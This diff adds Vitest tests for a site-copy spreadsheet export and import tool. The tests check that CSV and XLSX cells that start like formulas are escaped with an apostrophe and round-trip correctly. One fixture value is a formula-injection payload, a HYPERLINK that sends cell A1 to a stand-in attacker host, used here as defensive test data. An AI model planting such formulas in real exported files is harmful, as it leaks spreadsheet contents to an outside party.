@@ -3,12 +3,15 @@ import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { promisify } from 'node:util';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { readSheet } from 'read-excel-file/node';
 import { parse } from 'yaml';
 import { describe, expect, it } from 'vitest';
 import { checkFile } from '../../tools/check/runCheck.ts';
 import { exportCopyFile, importCopyFile } from '../../tools/copy/copyFile.ts';
 import { copyTable } from '../../tools/copy/copyTable.ts';
+import { copyTextsOf } from '../../tools/copy/copyTexts.ts';
+import { editCopyTexts } from '../../tools/copy/editCopyTexts.ts';
 import { readCsv, writeCsv } from '../../tools/copy/csvSheet.ts';
 import { CopyImportError } from '../../tools/copy/sheet.ts';
 import { writeXlsx } from '../../tools/copy/xlsxSheet.ts';
@@ -213,6 +216,64 @@ describe('files as Excel and LibreOffice save them in a legacy encoding (tests/c
       { key: 'complaint.emptyText', pack: 'es', row: 4 },
     ]);
   });
+});
+
+describe('texts a spreadsheet would run as a formula or read as a number or a boolean', () => {
+  const risky: [key: string, text: string][] = [
+    ['site.navHome', '=HYPERLINK("http://evil.example/?"&A1,"Home")'],
+    ['site.tagline', '+1 555 0100'],
+    ['complaint.emptyText', '-5% this week'],
+    ['contact.submit', '@support'],
+    ['contact.phonePlaceholder', '\tTab first'],
+    ['promo.phoneInvalid', "'=already quoted"],
+  ];
+  const pages = editCopyTexts(
+    PAGES,
+    risky.map(([key, value]) => ({ key, pack: 'en', value })),
+  );
+  const texts = (text: string) => copyTextsOf(text).texts;
+
+  it('CSV export puts an apostrophe before every cell that starts like a formula, and import takes it off', async () => {
+    const file = Buffer.from(await exportCopyFile(pages, 'csv'));
+    const cells = (parseCsv(file.subarray(3).toString('utf8')) as string[][]).flat();
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    for (const [, text] of risky) expect(cells).toContain(`'${text}`);
+    expect((await importCopyFile(pages, file)).text).toBe(pages);
+  });
+
+  it.each(['csv', 'xlsx'] as const)(
+    '%s: 123, true and =1+1 come back as the texts they are, and can be written as texts',
+    async (format) => {
+      const edited = editCopyTexts(PAGES, [
+        { key: 'site.navHome', pack: 'en', value: '123' },
+        { key: 'site.tagline', pack: 'en', value: 'true' },
+        { key: 'contact.submit', pack: 'en', value: '=1+1' },
+      ]);
+      expect((await importCopyFile(edited, await exportCopyFile(edited, format))).text).toBe(edited);
+      const rows = copyTable(PAGES);
+      const file = (rows: string[][]) => (format === 'csv' ? csv(rows) : writeXlsx(rows));
+      const changed = withCell(
+        'site.navHome',
+        'en',
+        '123',
+        withCell('site.tagline', 'en', 'true', withCell('contact.submit', 'en', '=1+1', rows)),
+      );
+      const { text, changes } = await importCopyFile(PAGES, await file(changed));
+      expect(changes.map((c) => [c.row, c.key, c.value]).sort((x, y) => Number(x[0]) - Number(y[0]))).toEqual(
+        (
+          [
+            [rowOf('site.navHome'), 'site.navHome', '123'],
+            [rowOf('site.tagline'), 'site.tagline', 'true'],
+            [rowOf('contact.submit'), 'contact.submit', '=1+1'],
+          ] as const
+        ).toSorted((x, y) => x[0] - y[0]),
+      );
+      expect(texts(text)).toEqual({
+        ...texts(PAGES),
+        en: { ...texts(PAGES).en, 'site.navHome': '123', 'site.tagline': 'true', 'contact.submit': '=1+1' },
+      });
+    },
+  );
 });
 
 describe('a text never becomes worse than it was', () => {
